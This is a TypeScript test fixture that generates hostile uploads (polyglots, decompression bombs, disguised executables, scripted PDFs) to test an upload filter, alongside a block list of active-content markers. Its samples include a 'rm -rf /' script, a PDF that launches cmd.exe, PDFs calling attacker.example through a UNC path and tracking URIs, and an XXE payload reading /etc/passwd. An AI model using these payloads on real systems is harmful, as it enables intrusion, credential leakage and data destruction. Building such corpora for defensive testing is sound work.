/**
 * A corpus of hostile uploads, generated at run time (no binaries in the repository): renamed
 * executables, image/PDF/HTML polyglots, truncated and corrupt images, decompression bombs,
 * oversized files, SVG, TIFF and HEIF images, encrypted, scripted and malformed PDFs (script
 * hidden in an encrypted object stream, remote go-to a UNC path, web addresses opened on open).
 */
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { encryptedObjectStreamPdf, encryptPdfRc4 } from './segment-pdf.ts';

export interface HostileFile {
  name: string;
  /** the type the upload claims (the data URL's label) */
  claimed: string;
  bytes: Buffer;
  /** Active content that a search of the stored bytes cannot see (encrypted, or an action's kind): never stored. */
  refuse?: true;
}

/** Strings that must never survive into a stored file. */
export const ACTIVE_MARKERS = [
  '<script',
  '<html',
  '<svg',
  'javascript:',
  '/JavaScript',
  '/JS ',
  '/JS(',
  '/JS<',
  '/Launch',
  '/EmbeddedFile',
  'This program cannot be run',
  'PK\u0003\u0004',
  '\u007fELF',
];

/** What a file is by its first bytes (each format's signature at offset 0), for the formats uploads name. */
export function formatOf(bytes: Buffer): 'jpeg' | 'png' | 'pdf' | 'other' {
  if (bytes.subarray(0, 3).equals(Buffer.from([0xff, 0xd8, 0xff]))) return 'jpeg';
  if (bytes.subarray(0, 8).equals(Buffer.from('89504e470d0a1a0a', 'hex'))) return 'png';
  if (bytes.subarray(0, 5).toString('latin1') === '%PDF-') return 'pdf';
  return 'other';
}

/** PDF syntax of actions hidden in files below. */
export const JS_ACTION = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
const LAUNCH_ACTION = '<< /Type /Action /S /Launch /F (cmd.exe) >>';

const crc32 = (buf: Buffer) => {
  let c = ~0;
  for (const b of buf) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
  }
  return ~c >>> 0;
};
const chunk = (type: string, data: Buffer) => {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
};

/** A PNG whose header claims width × height, with a tiny compressed body (decompression bomb). */
function pngBomb(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale
  // 200 rows of zeros compress to almost nothing; a decoder that trusts the header allocates gigabytes
  const idat = deflateSync(Buffer.alloc((width + 1) * 200), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', idat),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG whose frame header is rewritten to claim 65000 × 65000 pixels. */
function jpegBomb(jpeg: Buffer): Buffer {
  const out = Buffer.from(jpeg);
  for (let i = 2; i < out.length - 9; i++)
    if (out[i] === 0xff && (out[i + 1] === 0xc0 || out[i + 1] === 0xc2)) {
      out.writeUInt16BE(65000, i + 5);
      out.writeUInt16BE(65000, i + 7);
      break;
    }
  return out;
}

async function pdfWith(configure?: (doc: PDFDocument) => void): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 300]);
  page.drawText('Statement', { x: 20, y: 250, size: 14 });
  configure?.(doc);
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

export async function hostileCorpus(): Promise<HostileFile[]> {
  const base = sharp({ create: { width: 320, height: 200, channels: 3, background: '#d8dde8' } });
  const jpeg = await base.clone().jpeg().toBuffer();
  const png = await base.clone().png().toBuffer();
  const script = Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>');
  const svgScript = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>alert(1)</script><rect width="100" height="100"/></svg>',
  );
  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4000, 0x90)]);
  const pe = Buffer.concat([
    Buffer.from('MZ'),
    Buffer.alloc(58),
    Buffer.from('This program cannot be run in DOS mode.\r\n'),
    Buffer.alloc(3000, 0xcc),
  ]);
  const zip = Buffer.concat([
    Buffer.from('PK\u0003\u0004', 'latin1'),
    Buffer.alloc(26),
    Buffer.from('evil.html'),
    script,
  ]);
  const jsPdf = await pdfWith((doc) => {
    const js = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(js));
  });
  const launchPdf = await pdfWith((doc) => {
    const launch = doc.context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('cmd.exe') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(launch));
  });
  const embeddedPdf = await pdfWith((doc) => {
    void doc.attach(script, 'invoice.html', { mimeType: 'text/html' });
  });
  const plainPdf = await pdfWith();
  const gotoUnc = await pdfWith((doc) => {
    const action = doc.context.obj({
      Type: 'Action',
      S: 'GoToR',
      // PDF literal-string escapes: the reader sees \\attacker.example\share\statement.pdf
      F: PDFString.of('\\\\\\\\attacker.example\\\\share\\\\statement.pdf'),
      D: [0, 'Fit'],
    });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  });
  const uriOnOpen = await pdfWith((doc) => {
    const action = doc.context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of('https://attacker.example/track') });
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(action));
  });
  const uriOnPageOpen = await pdfWith((doc) => {
    const action = doc.context.obj({ S: 'URI', URI: PDFString.of('https://attacker.example/page') });
    doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: action }));
  });
  const tiff = await base.clone().tiff().toBuffer();
  const webp = await base.clone().webp().toBuffer();
  const heif = await base.clone().avif().toBuffer();
  const gif = await base.clone().gif().toBuffer();
  const withExif = await base
    .clone()
    .jpeg()
    .withMetadata({
      exif: { IFD0: { Copyright: '<script>alert(1)</script>', ImageDescription: 'javascript:alert(1)' } },
    })
    .toBuffer();
  const corrupt = Buffer.from(jpeg);
  for (let i = 200; i < corrupt.length - 2; i += 7) corrupt[i] = (corrupt[i]! * 31 + 17) & 0xff;
  const badCrc = Buffer.from(png);
  badCrc[29] = badCrc[29]! ^ 0xff;
  const hugeJpeg = await sharp({
    create: {
      width: 3000,
      height: 3000,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 60 },
    },
  })
    .jpeg({ quality: 100 })
    .toBuffer();

  const files: HostileFile[] = [
    { name: 'ELF executable renamed .jpg', claimed: 'image/jpeg', bytes: elf },
    { name: 'Windows executable renamed .png', claimed: 'image/png', bytes: pe },
    { name: 'shell script renamed .pdf', claimed: 'application/pdf', bytes: Buffer.from('#!/bin/sh\nrm -rf /\n') },
    { name: 'HTML page labelled PNG', claimed: 'image/png', bytes: script },
    { name: 'HTML page labelled PDF', claimed: 'application/pdf', bytes: script },
    { name: 'SVG with script', claimed: 'image/svg+xml', bytes: svgScript },
    { name: 'SVG with script labelled PNG', claimed: 'image/png', bytes: svgScript },
    { name: 'SVG with script labelled JPEG', claimed: 'image/jpeg', bytes: svgScript },
    { name: 'JPEG with HTML appended (polyglot)', claimed: 'image/jpeg', bytes: Buffer.concat([jpeg, script]) },
    { name: 'PNG with ZIP appended (polyglot)', claimed: 'image/png', bytes: Buffer.concat([png, zip]) },
    { name: 'JPEG with a PDF appended (polyglot)', claimed: 'image/jpeg', bytes: Buffer.concat([jpeg, jsPdf]) },
    { name: 'PDF with a JPEG inside, labelled JPEG', claimed: 'image/jpeg', bytes: Buffer.concat([jsPdf, jpeg]) },
    {
      name: 'GIF/JavaScript polyglot',
      claimed: 'image/gif',
      bytes: Buffer.from('GIF89a/*\u0001\u0000\u0001\u0000*/=alert(1)//;', 'latin1'),
    },
    { name: 'ZIP labelled PDF', claimed: 'application/pdf', bytes: zip },
    { name: 'truncated JPEG', claimed: 'image/jpeg', bytes: jpeg.subarray(0, Math.floor(jpeg.length / 3)) },
    { name: 'truncated PNG', claimed: 'image/png', bytes: png.subarray(0, Math.floor(png.length / 2)) },
    { name: 'corrupt JPEG body', claimed: 'image/jpeg', bytes: corrupt },
    { name: 'PNG with a broken CRC', claimed: 'image/png', bytes: badCrc },
    { name: 'one-byte file', claimed: 'image/jpeg', bytes: Buffer.from([0]) },
    { name: 'PNG decompression bomb 60000 × 60000', claimed: 'image/png', bytes: pngBomb(60_000, 60_000) },
    { name: 'PNG decompression bomb 1 × 10,000,000', claimed: 'image/png', bytes: pngBomb(1, 10_000_000) },
    { name: 'JPEG claiming 65000 × 65000', claimed: 'image/jpeg', bytes: jpegBomb(jpeg) },
    { name: 'oversized JPEG (noise, 3000 × 3000)', claimed: 'image/jpeg', bytes: hugeJpeg },
    {
      name: 'oversized file (12 MB)',
      claimed: 'image/jpeg',
      bytes: Buffer.concat([jpeg, Buffer.alloc(12 * 1024 * 1024, 0x41)]),
    },
    { name: 'PDF with JavaScript on open', claimed: 'application/pdf', bytes: jsPdf },
    { name: 'PDF that launches a program', claimed: 'application/pdf', bytes: launchPdf },
    { name: 'PDF with an embedded HTML file', claimed: 'application/pdf', bytes: embeddedPdf },
    { name: 'PDF with JavaScript labelled PNG', claimed: 'image/png', bytes: jsPdf },
    {
      name: 'encrypted PDF, JavaScript in an encrypted object stream (opens without a password)',
      refuse: true,
      claimed: 'application/pdf',
      bytes: encryptedObjectStreamPdf(JS_ACTION, { userPassword: '', ownerPassword: 'bank-owner' }),
    },
    {
      name: 'encrypted PDF, launch action in an encrypted object stream (opens without a password)',
      refuse: true,
      claimed: 'application/pdf',
      bytes: encryptedObjectStreamPdf(LAUNCH_ACTION, { userPassword: '', ownerPassword: 'bank-owner' }),
    },
    { name: 'PDF opening a UNC path on open (GoToR)', claimed: 'application/pdf', bytes: gotoUnc, refuse: true },
    {
      name: 'PDF opening a web address on open (URI OpenAction)',
      claimed: 'application/pdf',
      bytes: uriOnOpen,
      refuse: true,
    },
    {
      name: 'PDF opening a web address with its page (URI in /AA)',
      claimed: 'application/pdf',
      bytes: uriOnPageOpen,
      refuse: true,
    },
    { name: 'HTML page then a PDF (polyglot)', claimed: 'application/pdf', bytes: Buffer.concat([script, plainPdf]) },
    {
      name: 'encrypted PDF (RC4)',
      claimed: 'application/pdf',
      bytes: Buffer.from(
        await encryptPdfRc4(plainPdf, { userPassword: 'secret123', ownerPassword: 'owner-secret', bits: 128 }),
      ),
    },
    {
      name: 'malformed PDF (header only)',
      claimed: 'application/pdf',
      bytes: Buffer.from('%PDF-1.7\n1 0 obj <</Type /Catalog'),
    },
    {
      name: 'PDF header on garbage',
      claimed: 'application/pdf',
      bytes: Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(2000, 0xff)]),
    },
    {
      name: 'XML with an external entity, labelled PDF',
      claimed: 'application/pdf',
      bytes: Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    },
    { name: 'TIFF image', claimed: 'image/tiff', bytes: tiff },
    { name: 'WebP labelled JPEG', claimed: 'image/jpeg', bytes: webp },
    { name: 'TIFF labelled JPEG', claimed: 'image/jpeg', bytes: tiff },
    { name: 'HEIF (AVIF) labelled JPEG', claimed: 'image/jpeg', bytes: heif },
    { name: 'animated-capable GIF', claimed: 'image/gif', bytes: gif },
    { name: 'PNG labelled JPEG', claimed: 'image/jpeg', bytes: png },
    { name: 'JPEG with script in its EXIF', claimed: 'image/jpeg', bytes: withExif },
    { name: 'text file labelled text/html', claimed: 'text/html', bytes: script },
  ];
  return files;
}
